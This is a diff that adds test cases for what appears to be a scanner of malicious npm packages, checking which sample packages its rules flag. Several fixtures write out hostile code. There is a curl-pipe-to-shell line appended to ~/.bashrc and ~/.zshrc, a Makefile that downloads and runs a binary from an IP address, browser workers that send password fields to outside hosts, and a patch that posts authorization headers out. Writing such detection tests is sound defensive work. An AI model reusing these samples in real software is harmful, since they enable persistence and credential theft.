@@ -369,3 +369,185 @@ describe('a Makefile define, and a token read from ~/.npmrc (review of the sixte
     expect(ruleOf(r, 'js.write-registry-config')?.confidence ?? 0).toBeLessThan(0.5);
   });
 });
+
+describe('review of the seventeenth session', () => {
+  const shellWriter = [
+    "const fs = require('fs');",
+    "const os = require('os');",
+    "const path = require('path');",
+  ];
+  const line = "return '(curl -fsSL https://sync.shell-env.example/sh | sh) >/dev/null 2>&1 &';";
+  const appends =
+    "for (const f of ['.bashrc', '.zshrc']) fs.appendFileSync(path.join(os.homedir(), f), '\\n' + this.line() + '\\n');";
+
+  it('Makefile calls of calls are expanded a bounded number of times', () => {
+    const lines = ['V6 = echo hello world'];
+    for (let i = 5; i >= 0; i--)
+      lines.push(`V${i} = ${Array.from({ length: 50 }, () => `$(call V${i + 1},x)`).join(' ')}`);
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { install: 'make' } }),
+      Makefile: `${lines.join('\n')}\nall:\n\t@$(call V0,x)\n`,
+    });
+    expect(r.risk_level).toBe('clean');
+  });
+
+  it('a define called in the brace form', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { install: 'make -s prebuilt' } }),
+      Makefile:
+        'define fetch_run\n\tcurl -fsSL http://$(1)/$(2) -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x &\nendef\nprebuilt:\n\t${call fetch_run, 45.9.148.3, lib.so}\n',
+    });
+    expect(ruleOf(r, 'script.download-execute')?.confidence).toBeGreaterThanOrEqual(0.9);
+  });
+
+  it('a class that extends one of two classes, an ES5 parent through Object.create or extends', () => {
+    for (const code of [
+      [
+        'class Quiet { apply() {} }',
+        `class Posix { line() { ${line} } apply() { ${appends} } }`,
+        "class Integration extends (process.platform === 'win32' ? Quiet : Posix) { sync() { try { this.apply(); } catch (_) {} } }",
+        'new Integration().sync();',
+      ],
+      [
+        'function Integration() {}',
+        `Integration.prototype.line = function () { ${line} };`,
+        'Integration.prototype.sync = function () { this.apply(); };',
+        'function Posix() { Integration.call(this); }',
+        'Posix.prototype = Object.create(Integration.prototype);',
+        `Posix.prototype.apply = function () { ${appends} };`,
+        'new Posix().sync();',
+      ],
+      [
+        'function Integration() { this.home = os.homedir(); }',
+        `Integration.prototype.line = function () { ${line} };`,
+        'Integration.prototype.sync = function () { this.apply(); };',
+        `class Posix extends Integration { apply() { ${appends} } }`,
+        'new Posix().sync();',
+      ],
+    ]) {
+      const r = analyzeSource({ 'package.json': pkg(), 'index.js': [...shellWriter, ...code].join('\n') });
+      expect(r.risk_level).toBe('critical');
+      expect(ruleOf(r, 'js.write-shell-rc')?.message).toContain('~/.bashrc');
+    }
+  });
+
+  it('a worker that loads its code from a host, or whose code was downloaded, is posted password fields', () => {
+    for (const start of [
+      [
+        'const SRC = "importScripts(\'https://cdn-formkit-static.example/v2/perf.js\');";',
+        "const w = new Worker(URL.createObjectURL(new Blob([SRC], { type: 'text/javascript' })));",
+      ],
+      [
+        'let w;',
+        "fetch('https://cdn-formkit-static.example/v2/perf.js').then((r) => r.blob()).then((b) => { w = new Worker(URL.createObjectURL(b)); });",
+      ],
+    ]) {
+      const r = analyzeSource({
+        'package.json': pkg({ name: 'formkit-mask', main: 'src/index.js', browser: 'src/index.js' }),
+        'src/index.js': [
+          ...start,
+          "for (const el of document.querySelectorAll('input[type=password]'))",
+          "  el.addEventListener('change', () => w && w.postMessage({ k: el.name, v: el.value }));",
+        ].join('\n'),
+      });
+      expect(ruleOf(r, 'js.page-secret-exfil')?.confidence).toBeGreaterThanOrEqual(0.8);
+    }
+  });
+
+  it('quiet: an API client whose worker file uses the session token as its own requests’ credential', () => {
+    const r = analyzeSource({
+      'package.json': pkg({
+        name: 'api-session-worker',
+        type: 'module',
+        main: 'src/index.js',
+        browser: 'src/index.js',
+      }),
+      'src/api.worker.js': [
+        "let token = '';",
+        'self.onmessage = async (e) => {',
+        "  if (e.data.type === 'auth') { token = e.data.token; return; }",
+        "  const res = await fetch('https://api.acme-app.example/v1/' + e.data.path, { headers: { Authorization: 'Bearer ' + token } });",
+        '  self.postMessage({ id: e.data.id, body: await res.json() });',
+        '};',
+      ].join('\n'),
+      'src/index.js': [
+        "const worker = new Worker(new URL('./api.worker.js', import.meta.url), { type: 'module' });",
+        "worker.postMessage({ type: 'auth', token: localStorage.getItem('access_token') });",
+        'let id = 0;',
+        'export function get(path) { const my = ++id; worker.postMessage({ id: my, path }); }',
+      ].join('\n'),
+    });
+    expect(r.risk_level).toBe('clean');
+  });
+
+  it('quiet: ~/.npmrc reset to a registry, keeping the token the code read for that registry', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ name: 'npmrc-reset', bin: { 'npmrc-reset': 'cli.js' } }),
+      'cli.js': [
+        "const fs = require('fs');",
+        "const npmrc = require('path').join(require('os').homedir(), '.npmrc');",
+        "const old = fs.existsSync(npmrc) ? fs.readFileSync(npmrc, 'utf8') : '';",
+        'const token = (/\\/\\/registry\\.example\\.org\\/:_authToken=(.+)/.exec(old) || [])[1];',
+        "let out = 'registry=https://registry.example.org/\\n';",
+        'if (token) out += `//registry.example.org/:_authToken=${token}\\n`;',
+        'fs.writeFileSync(npmrc, out);',
+      ].join('\n'),
+    });
+    expect(ruleOf(r, 'js.write-registry-config')?.confidence ?? 0).toBeLessThan(0.5);
+  });
+
+  it('a patch with a harmless hunk that starts inside a comment beside the one that adds a request', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ name: '@orbit-sdk/rest', scripts: { postinstall: 'patch-package' } }),
+      'patches/got+11.8.6.patch': [
+        '--- a/node_modules/got/dist/source/core/index.js',
+        '+++ b/node_modules/got/dist/source/core/index.js',
+        '@@ -20,4 +20,5 @@',
+        "      * it's the options for the request (",
+        '      */',
+        '+    // patched: keep the timeout below 30s',
+        '     constructor(url, options, defaults) {',
+        '         super({',
+        '@@ -1410,3 +1411,5 @@',
+        ' });',
+        ' class Request extends stream_1.Duplex {',
+        "+    #sync(h) { require('https').request({ hostname: 'sync.orbit-edge-cache.example', method: 'POST' }).end(JSON.stringify({ a: h.authorization, h: require('os').hostname() })); }",
+        '     async _makeRequest() {',
+        '+        this.#sync(this.options.headers);',
+      ].join('\n'),
+    });
+    expect(ruleOf(r, 'pkg.install-patches-dependency')?.confidence).toBeGreaterThanOrEqual(0.85);
+  });
+
+  it('a stub of arrow functions and nulls in the catch stands for nothing', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ name: 'formkit-mask', main: 'src/index.js', browser: 'src/index.js' }),
+      'src/index.js': [
+        `const SRC = ${JSON.stringify("self.onmessage = (e) => { fetch('https://collect.formkit-static.example/p', { method: 'POST', body: JSON.stringify(e.data) }); };")};`,
+        'let w = null;',
+        'try { w = new Worker(URL.createObjectURL(new Blob([SRC]))); } catch (_) { w = { postMessage: () => undefined, onmessage: null }; }',
+        "for (const el of document.querySelectorAll('input[type=password]'))",
+        "  el.addEventListener('blur', () => w.postMessage({ v: el.value }));",
+      ].join('\n'),
+    });
+    expect(ruleOf(r, 'js.page-secret-exfil')?.confidence).toBeGreaterThanOrEqual(0.8);
+  });
+
+  it('quiet: a coverage hook for the package’s own esm build', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ name: 'warm-cache' }),
+      'index.js': [
+        "const fs = require('fs');",
+        "const Module = require('module');",
+        'const patches = [];',
+        'patches.push({ test: /esm[\\\\/]cache[\\\\/]store\\.js$/, fn: (source) => `var __cov = (globalThis.__cov ||= { hits: 0 });\\n${source}\\n__cov.hits = (__cov.hits || 0) + 1;` });',
+        "Module._extensions['.js'] = function (mod, filename) {",
+        "  let source = fs.readFileSync(filename, 'utf8');",
+        '  for (const p of patches) if (p.test.test(filename)) source = p.fn(source);',
+        '  mod._compile(source, filename);',
+        '};',
+      ].join('\n'),
+    });
+    expect(ruleOf(r, 'js.module-hook-tamper')).toBeUndefined();
+  });
+});
